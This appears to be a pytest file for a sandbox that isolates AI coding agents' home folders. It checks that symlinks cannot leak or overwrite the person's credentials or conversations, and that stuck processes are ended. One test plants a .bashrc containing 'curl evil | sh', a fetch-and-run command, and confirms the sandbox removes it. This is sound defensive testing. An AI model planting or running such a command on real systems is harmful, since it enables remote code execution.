"""A program that laid links in its home gets nothing of the person written, read or removed through them."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from podium.agents.deps import AgentOptions
from podium.agents.tui import Program
from podium.agents.tui.adapter import Launch, ProgramContext, TranscriptEntry, Written
from podium.agents.tui.generic import GenericTui
from podium.agents.tui.pair import adapter_for
from podium.agents.tui.panes import end_program
from podium.agents.tui.screen import look
from podium.sandbox.guard.processes import entry_of
from podium.testing.fake_tuis import tui_command
from tests.integration.agents.tui.tmux_harness import Harness
from tests.unit.agents.tui.pair_harness import on_stage

SESSION = "0a1b2c3d-1111-2222-3333-444455556666"
OWN = {
    ".claude/.credentials.json": '{"the person": "is logged in"}',
    ".claude/.claude.json": '{"mine": "own"}',
    ".codex/auth.json": '{"tokens": "mine"}',
    ".codex/config.toml": 'mine = "own"\n',
    ".gemini/settings.json": '{"mine": "own"}',
    ".gemini/oauth_creds.json": '{"refresh_token": "mine"}',
}
FOLDERS = {
    "claude": [".claude", ".claude/projects"],
    "codex": [".codex", ".codex/sessions"],
    "gemini": [".gemini", ".gemini/policies", ".gemini/extensions", ".gemini/tmp/workspace/chats"],
}
KEPT = {
    "claude": (
        f".claude/projects/work/{SESSION}.jsonl",
        {"type": "user", "promptSource": "x", "message": {"content": "hello"}},
    ),
    "codex": (
        f".codex/sessions/2026/01/01/rollout-2026-01-01T00-00-00-{SESSION}.jsonl",
        {
            "type": "event_msg",
            "payload": {
                "type": "item_completed",
                "item": {"type": "UserMessage", "content": [{"text": "hello"}]},
            },
        },
    ),
    "gemini": (
        ".gemini/tmp/workspace/chats/session-2026-01-01T00-00-0a1b2c3d.jsonl",
        {"type": "user", "content": "hello"},
    ),
}
"""Where each kind keeps a conversation, and a record of it that tells of a prompt."""
LAID = {
    "claude": ".claude/.claude.json",
    "codex": ".codex/config.toml",
    "gemini": ".gemini/settings.json",
}
agent_kind = pytest.mark.parametrize("kind", sorted(FOLDERS))
link_kind = pytest.mark.parametrize(
    ("kind", "linked"), [(kind, name) for kind, names in FOLDERS.items() for name in names]
)


def a_place(root: Path, kind: str) -> ProgramContext:
    place = ProgramContext(
        name="planner",
        cwd=root / "work",
        home=root / "side/home",
        temporary=root / "side/tmp",
        options=AgentOptions(name=kind),
        hook_command=("true",),
        user_home=root / "person",
        confined=True,
    )
    for folder in (place.cwd, place.home, place.temporary, place.user_home):
        folder.mkdir(parents=True)
    for name, content in OWN.items():
        file = place.user_home / name
        file.parent.mkdir(exist_ok=True)
        file.write_text(content)
    return place


def a_conversation(home: Path, kind: str) -> Path:
    name, record = KEPT[kind]
    file = home / name
    file.parent.mkdir(parents=True, exist_ok=True)
    about = {"id": SESSION, "source": "cli"}
    first = {"sessionId": SESSION, "type": "session_meta", "payload": about}
    file.write_text(f"{json.dumps(first)}\n{json.dumps(record)}\n")
    return file


def lay_link(link: Path, to: Path) -> None:
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(to)


def everything_in(folder: Path) -> dict[str, str]:
    files = sorted(path for path in folder.rglob("*") if path.is_file())
    return {str(path.relative_to(folder)): path.read_text() for path in files}


def received_in(place: ProgramContext, kind: str) -> list[TranscriptEntry]:
    return written_in(place, kind).since({})[0]


def written_in(place: ProgramContext, kind: str) -> Written:
    written = adapter_for(kind, place.options).written(place, SESSION)
    assert written is not None
    return written


@link_kind
def test_no_setting_and_no_login_is_laid_through_a_link(
    tmp_path: Path, kind: str, linked: str
) -> None:
    place = a_place(tmp_path, kind)
    theirs = place.user_home / linked
    theirs.mkdir(parents=True, exist_ok=True)
    lay_link(place.home / linked, theirs)
    before = everything_in(place.user_home)
    adapter_for(kind, place.options).launch(place, None)
    assert everything_in(place.user_home) == before
    assert (place.home / LAID[kind]).is_file()
    assert not any(path.is_symlink() for path in place.home.rglob("*"))


@agent_kind
def test_a_link_in_the_place_of_a_file_is_replaced(tmp_path: Path, kind: str) -> None:
    place = a_place(tmp_path, kind)
    for name in OWN:
        lay_link(place.home / name, place.user_home / name)
    adapter_for(kind, place.options).launch(place, None)
    assert everything_in(place.user_home) == OWN
    assert not any(path.is_symlink() for path in place.home.rglob("*"))


def test_a_link_among_kept_conversations_does_not_lead_out(tmp_path: Path) -> None:
    place = a_place(tmp_path, "claude")
    adapter_for("claude", place.options).launch(place, None)
    (kept,) = (place.home / ".claude/projects").iterdir()
    kept.rmdir()
    kept.symlink_to(tmp_path / "elsewhere")
    adapter_for("claude", place.options).launch(place, None)
    assert kept.is_dir()
    assert not kept.is_symlink()
    assert not (tmp_path / "elsewhere").exists()


@agent_kind
def test_old_content_of_the_home_goes_and_the_conversation_stays(tmp_path: Path, kind: str) -> None:
    place = a_place(tmp_path, kind)
    file = a_conversation(place.home, kind)
    planted = place.home / ".bashrc"
    planted.write_text("curl evil | sh")
    launched = adapter_for(kind, place.options).launch(place, SESSION)
    assert launched.session == SESSION
    assert file.is_file()
    assert not planted.exists()


def test_the_login_that_codex_renewed_stays(tmp_path: Path) -> None:
    place = a_place(tmp_path, "codex")
    adapter_for("codex", place.options).launch(place, None)
    login = place.home / ".codex/auth.json"
    assert login.read_text() == OWN[".codex/auth.json"]
    login.write_text("renewed")
    adapter_for("codex", place.options).launch(place, None)
    assert login.read_text() == "renewed"


@agent_kind
def test_a_conversation_is_read_where_no_link_leads_to_it(tmp_path: Path, kind: str) -> None:
    place = a_place(tmp_path, kind)
    a_conversation(place.home, kind)
    assert [item.text for item in received_in(place, kind)] == ["hello"]
    assert written_in(place, kind).folders()


@agent_kind
def test_no_conversation_is_read_through_a_link(tmp_path: Path, kind: str) -> None:
    place = a_place(tmp_path, kind)
    theirs = a_conversation(place.user_home, kind).relative_to(place.user_home)
    for at in range(1, len(theirs.parts) + 1):
        shutil.rmtree(place.home)
        linked = Path(*theirs.parts[:at])
        lay_link(place.home / linked, place.user_home / linked)
        assert received_in(place, kind) == [], linked
        assert not any(folder.is_symlink() for folder in written_in(place, kind).folders())
        launched = adapter_for(kind, place.options).launch(place, SESSION)
        assert launched.session != SESSION, linked


@agent_kind
def test_a_pipe_among_conversations_keeps_nobody_waiting(tmp_path: Path, kind: str) -> None:
    place = a_place(tmp_path, kind)
    file = a_conversation(place.home, kind)
    file.unlink()
    os.mkfifo(file)
    assert received_in(place, kind) == []
    assert written_in(place, kind).end_position() is not None
    adapter_for(kind, place.options).launch(place, SESSION)


class Watchful(GenericTui):
    """Tells whether the program that it lays out for was living still."""

    pid = 0
    lived = False

    def launch(self, place: ProgramContext, session: str | None) -> Launch:
        self.lived = lives(self.pid)
        return super().launch(place, session)


def lives(pid: int) -> bool:
    entry = entry_of(pid)
    return entry is not None and not entry.is_zombie


async def test_a_program_has_ended_before_its_home_is_laid_out_anew(root: Path) -> None:
    async with on_stage(root) as podium:
        command = tui_command("composer", podium.record())
        options = AgentOptions(name="zoo", command=command, options={"manner": "paste"})
        adapter = Watchful(options)
        podium.pair.side("planner", adapter, options, root)
        await podium.pair.come_up()
        (state,) = await podium.pair.states()
        adapter.pid = state.pid
        assert lives(state.pid)
        await podium.pair.restart("planner")
        assert not adapter.lived
        (state,) = await podium.pair.states()
        assert lives(state.pid)


async def test_one_that_will_not_leave_is_ended(harness: Harness) -> None:
    stubborn = "trap '' HUP TERM; echo here; while :; do sleep 1; done"
    argv = ("/bin/sh", "-c", stubborn)
    pane = await harness.panes.open(Program(name="planner", argv=argv, cwd=harness.root))
    await harness.shows(pane, "here")
    await end_program(harness.control, pane, seconds=0.5)
    assert (await look(harness.control, pane)).dead
    await end_program(harness.control, pane)
